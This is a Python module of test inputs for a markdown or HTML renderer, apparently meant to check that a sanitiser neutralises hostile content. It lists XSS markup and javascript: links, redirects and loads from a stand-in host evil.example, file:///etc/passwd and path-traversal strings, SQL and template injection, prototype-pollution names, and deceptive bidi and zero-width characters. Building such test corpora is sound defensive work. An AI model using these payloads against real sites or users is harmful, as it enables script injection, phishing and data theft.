"""Texts that try to be more than text: markup, links, shapes, characters, names with a meaning."""

from typing import Final

_RUN: Final = "window.__pwned=1"

MARKUP: Final = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt type=module>{_RUN}</sCrIpT >",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text x=9 y=9>a</text></a></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{_RUN}">',
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none!important}@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<form action=//evil.example><button formaction=javascript:{_RUN}>a</button></form>",
    f"<details open ontoggle={_RUN}>a</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<body onload={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<x-a onclick={_RUN} tabindex=0 id=search>a</x-a>",
    "<dialog open>Your session has ended: type your password</dialog>",
    f"</title></textarea></style></script><script>{_RUN}</script>",
    f"<!--><script>{_RUN}</script-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"<<script>{_RUN}//<</script>",
    f"<div style='background:url(javascript:{_RUN});position:fixed;inset:0'>a</div>",
)
"""HTML: a body is markdown without it, every other text is text."""

LINKS: Final = (
    f"[a](javascript:{_RUN})",
    f"[a](JaVaScRiPt:{_RUN})",
    f"[a](java&#10;script:{_RUN})",
    f"[a](&#106;avascript:{_RUN})",
    f"[a](&#x6A;avascript&colon;{_RUN})",
    f"[a](javascript&Tab;:{_RUN})",
    f"[a]( javascript:{_RUN} )",
    f"[a](<javascript:{_RUN}>)",
    f"[a](javascript://example.org/%0a{_RUN})",
    f"[a](%6Aavascript:{_RUN})",
    f"[a](data:text/html,<script>{_RUN}</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://evil.example/1)",
    "[a](//evil.example/x)",
    "[a](/ui/logout)",
    "[a](?tab=keys)",
    "[a](http:/\\evil.example)",
    "[a](https:evil.example)",
    "[a](mailto:)",
    "[a](tel:+1234)",
    f"<javascript:{_RUN}>",
    "<data:text/html,a>",
    f"[a]: javascript:{_RUN}\n\n[a]",
    f'[a](http://example.org "\\" onmouseover=\\"{_RUN}")',
    f"[a](http://example.org/'onclick='{_RUN})",
    f"![x](javascript:{_RUN})",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    f"[![x](https://evil.example/a.png)](javascript:{_RUN})",
    f"[a [b](javascript:{_RUN}) c](http://example.org)",
    "[https://bank.example](https://evil.example)",
    "[a](http://user:pass@evil.example)",
    "[a](http://аpple.example)",
)
"""Markdown links: only http, https and mailto lead anywhere."""

SHAPES: Final = (
    "> " * 400 + "deep",
    "- " * 400 + "deep",
    "*" * 3000,
    "[" * 3000,
    "`" * 2999 + "a",
    "| a " * 400 + "|\n" + "|-" * 400 + "|\n" + "| b " * 400 + "|",
    f"```js\n{_RUN}\n```",
    f'```"><script>{_RUN}</script>\na\n```',
    "- [x] <b>a</b>\n- [ ] [b](javascript:b)",
    "# " + "h" * 3000,
    "w" * 5000,
)
"""Markdown whose shape is the trouble."""

CHARACTERS: Final = (
    "photo\u202egnp.exe",
    "\u2066\u2067\u202d\u202eisolates that never end",
    "z\u200be\u200cr\u200do\u2060 w\ufeffidth",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "Z\u0351\u036b\u0343\u036a\u0302A\u0321\u034a\u0360L\u0334\u0329G\u0354O" * 4,
    "👩‍👩‍👧‍👦🏳️‍🌈" * 10,
    "line\u2028separator\u2029here",
    "\U000e0001\U000e0041 tags",
    "\ufdfd" * 20,
    "שלום עולם (مرحبا) 1 < 2",
)
"""Characters that hide, mirror, stack or steer."""

NAMES: Final = (
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "{name}",
    "{count} {what} {constructor}",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "%s %n %00",
    "'; DROP TABLE message; --",
    "../../../etc/passwd",
    "null",
    "undefined",
    "NaN",
    "[object Object]",
    "$&$1$`$'",
    "CON",
)
"""What a language, a catalogue or a system gives a meaning to."""

ALL: Final = (*MARKUP, *LINKS, *SHAPES, *CHARACTERS, *NAMES)
